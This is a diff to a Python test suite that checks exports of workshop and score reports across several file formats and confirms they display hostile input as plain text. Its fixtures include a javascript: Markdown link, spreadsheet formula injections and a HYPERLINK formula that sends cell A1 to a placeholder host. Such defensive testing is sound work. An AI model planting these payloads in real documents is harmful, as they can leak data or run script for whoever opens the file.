@@ -21,6 +21,7 @@ MD_LINK = "[cliquez](javascript:alert(1))"
 HYPERLINK = '=HYPERLINK("https://exemple.invalid/?d="&A1,"Cliquez")'
 SUM = "@SUM(A1:A9)"
 MINUS = "-1+1"
+WORKSHOP_TEXT = '=HYPERLINK("https://exemple.invalid/atelier","Il manque")'
 PASTED = "Collé\x07 depuis Word"  # a control character that breaks DOCX and XLSX writers
 
 
@@ -52,7 +53,12 @@ def hostile(test_catalogue: Catalogue) -> Export:
         ScoreSheet(brick="mentorat", evaluator=SUM, scores={"pertinence": 4}, comment=IMG),
         ScoreSheet(brick="mentorat", evaluator=HYPERLINK, scores={"pertinence": 1}, comment=MD_LINK),
     ]
-    source = export_readers.scored_source(test_catalogue, scenario, sheets=sheets, author=SUM)
+    workshops = export_readers.workshop_reports(
+        test_catalogue, scenario, title=f"Atelier {IMG}", missing=WORKSHOP_TEXT
+    )
+    source = export_readers.scored_source(
+        test_catalogue, scenario, sheets=sheets, author=SUM, workshops=workshops
+    )
     return export(source, FORMATS)
 
 
@@ -123,3 +129,16 @@ def test_json_yaml_and_svg_keep_the_text_exactly(hostile: Export) -> None:
     assert f"Groupe {SCRIPT}" in export_readers.svg_text(data(hostile, "svg"))
     with zipfile.ZipFile(io.BytesIO(hostile.zip().data)) as archive:
         assert len(archive.namelist()) == len(FORMATS)
+
+
+def test_workshop_titles_and_answers_show_as_typed_and_run_nothing(hostile: Export) -> None:
+    title = f"Focus group « Atelier {IMG} »"
+    assert title in unescape_markdown(data(hostile, "md").decode("utf-8"))
+    _, text = export_readers.html_parts(data(hostile, "html"))
+    assert title in text and WORKSHOP_TEXT in text
+    word = export_readers.docx_text(data(hostile, "docx"))
+    assert title in word and WORKSHOP_TEXT in word
+    cells = [c for rows in export_readers.xlsx_cells(data(hostile, "xlsx")).values() for r in rows for c in r]
+    answers = [c for c in cells if c.value == WORKSHOP_TEXT]
+    assert answers and all(c.data_type == "s" for c in answers)
+    assert title in export_readers.pdf_text(data(hostile, "pdf"))
